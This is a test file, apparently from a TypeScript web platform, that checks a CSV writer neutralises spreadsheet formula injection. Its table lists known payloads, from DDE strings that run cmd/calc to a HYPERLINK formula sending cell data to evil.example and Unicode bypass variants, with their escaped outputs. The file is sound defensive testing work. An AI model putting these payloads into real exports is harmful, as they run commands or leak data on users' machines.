import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRow, csvStream, type CsvValue } from '#server/lib/platform/csv.js';
import { FORMULA_PAYLOADS, formulaFields, HARMLESS_TEXT, parseCsv, PLAIN_NUMBERS } from '#server/testing/csv-payloads.js';

/**
 * The one CSV writer (docs/decisions/068-one-csv-writer.md): a table of known CSV-injection payloads and of cells that
 * must stay as they are, each with the exact cell written.
 */
const TABLE: [label: string, value: CsvValue, written: string][] = [
  ['the red team’s bypass: starts like a number', "-1+cmd|' /C calc'!A0", `"'-1+cmd|' /C calc'!A0"`],
  ['a formula', '=1+1', `"'=1+1"`],
  ['a plus', '+1+1', `"'+1+1"`],
  ['a sum that starts like a negative number', '-2+3', `"'-2+3"`],
  ['@ and DDE', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
  ['classic DDE', "=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ['DDE() with quotes', '=DDE("cmd";"/C calc";"!A0")', `"'=DDE(""cmd"";""/C calc"";""!A0"")"`],
  ['HYPERLINK with a comma and quotes', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
  ['a number followed by a formula', '-500.00+A1', `"'-500.00+A1"`],
  ['an exponent is not a plain number', '-1e3', `"'-1e3"`],
  ['a number with a trailing space', '-500.00 ', `"'-500.00 "`],
  ['a number, then a line with a formula', '-500.00\n=1+1', `"'-500.00\n=1+1"`],
  ['leading spaces before =', '   =1+1', `"'   =1+1"`],
  ['a no-break space before =', '\u00a0=1+1', `"'\u00a0=1+1"`],
  ['an ideographic space before =', '\u3000=1+1', `"'\u3000=1+1"`],
  ['a zero-width space before =', '\u200b=1+1', `"'\u200b=1+1"`],
  ['a byte order mark before =', '\ufeff=1+1', `"'\ufeff=1+1"`],
  ['a tab before =', '\t=1+1', `"'\t=1+1"`],
  ['a carriage return before =', '\r=1+1', `"'\r=1+1"`],
  ['a leading tab', '\tTab first', `"'\tTab first"`],
  ['a leading carriage return', '\rCR first', `"'\rCR first"`],
  ['a line feed before =', '\n=1+1', `"'\n=1+1"`],
  ['a full-width equals sign', '\uff1d1+1', `"'\uff1d1+1"`],
  ['a full-width plus sign', '\uff0b1+1', `"'\uff0b1+1"`],
  ['a full-width hyphen-minus', '\uff0d1+1', `"'\uff0d1+1"`],
  ['a full-width at sign', '\uff20SUM(A1)', `"'\uff20SUM(A1)"`],
  ['the minus sign U+2212', '\u22121+1', `"'\u22121+1"`],
  ['a small equals sign', '\ufe661+1', `"'\ufe661+1"`],
  // Left alone: whole plain numbers (what money() and counts give) and the statement's lone signs.
  ['a negative amount', '-500.00', '-500.00'],
  ['zero', '0', '0'],
  ['a decimal', '1234.5', '1234.5'],
  ['a negative kobo', '-0.01', '-0.01'],
  ['a number given as a number', -5, '-5'],
  ['a count', 12, '12'],
  ['a lone plus (a statement Type)', '+', '+'],
  ['a lone minus (a statement Type)', '-', '-'],
  // Text: quoted only when RFC 4180 needs it.
  ['plain text', 'Ngozi Okafor', 'Ngozi Okafor'],
  ['a comma', 'Okafor, Ngozi', '"Okafor, Ngozi"'],
  ['quotes', 'Ngozi "Mama" Okafor', '"Ngozi ""Mama"" Okafor"'],
  ['a line feed', 'Two\nlines', '"Two\nlines"'],
  ['a CR LF inside', 'Two\r\nlines', '"Two\r\nlines"'],
  ['a date-time', '2026-12-04T10:00:00.000Z', '2026-12-04T10:00:00.000Z'],
  ['a number with thousands commas is text', '1,234.50', '"1,234.50"'],
  ['JSON details', '{"reason":"=1+1"}', '"{""reason"":""=1+1""}"'],
  ['already text', "'=1+1", "'=1+1"],
  ['an arithmetic that starts with a digit (not a formula)', '1+1', '1+1'],
  ['empty', '', ''],
  ['null', null, ''],
  ['undefined', undefined, ''],
];

describe('lib/platform/csv.ts: one cell', () => {
  it.each(TABLE)('%s', (_label, value, written) => {
    expect(csvCell(value)).toBe(written);
    // Read back as a spreadsheet reads the file: nothing runs, and the text is all there.
    const [[field]] = parseCsv(`${csvCell(value)}\n`) as [[string]];
    expect(formulaFields(`${csvCell(value)}\n`)).toEqual([]);
    const text = value === null || value === undefined ? '' : String(value);
    expect([text, `'${text}`]).toContain(field ?? '');
  });

  it('every shared payload is neutralised, every plain number left bare, harmless text kept', () => {
    for (const p of FORMULA_PAYLOADS) expect(csvCell(p), JSON.stringify(p)).toBe(`"'${p.replace(/"/g, '""')}"`);
    for (const n of PLAIN_NUMBERS) expect(csvCell(n)).toBe(n);
    for (const t of HARMLESS_TEXT) expect(parseCsv(`${csvCell(t)}\n`)).toEqual([[t]]);
  });
});

describe('lib/platform/csv.ts: rows and documents', () => {
  const rows: CsvValue[][] = [
    ['Date', 'Details', 'Amount'],
    ['04/12/2026', "-1+cmd|' /C calc'!A0", '-500.00'],
    ['04/12/2026', 'Okafor, Ngozi', 12],
  ];
  const expected = (eol: string) => [`Date,Details,Amount`, `04/12/2026,"'-1+cmd|' /C calc'!A0",-500.00`, `04/12/2026,"Okafor, Ngozi",12`].map((l) => l + eol).join('');

  it('a row ends with the line ending given; a document is its rows (LF or CRLF)', () => {
    expect(csvRow(rows[1]!, '\r\n')).toBe(`04/12/2026,"'-1+cmd|' /C calc'!A0",-500.00\r\n`);
    expect(csvDocument(rows, '\n')).toBe(expected('\n'));
    expect(csvDocument(rows, '\r\n')).toBe(expected('\r\n'));
    expect(parseCsv(csvDocument(rows, '\r\n'))).toEqual([['Date', 'Details', 'Amount'], ['04/12/2026', "'-1+cmd|' /C calc'!A0", '-500.00'], ['04/12/2026', 'Okafor, Ngozi', '12']]);
  });

  it('a stream writes the head, then one chunk per batch, asking for a batch only when the last chunk was taken', async () => {
    const asked: number[] = [];
    async function* batches() {
      for (const n of [1, 2]) {
        asked.push(n);
        yield [rows[n]!];
      }
      asked.push(3);
      yield [];
    }
    const stream = csvStream(['Date', 'Details', 'Amount'], batches(), '\n');
    const chunks: string[] = [];
    for await (const chunk of stream) {
      chunks.push(chunk);
      expect(asked.length).toBeLessThanOrEqual(chunks.length);
    }
    expect(chunks).toEqual(['Date,Details,Amount\n', `04/12/2026,"'-1+cmd|' /C calc'!A0",-500.00\n`, '04/12/2026,"Okafor, Ngozi",12\n']);
    expect(chunks.join('')).toBe(expected('\n'));
  });
});
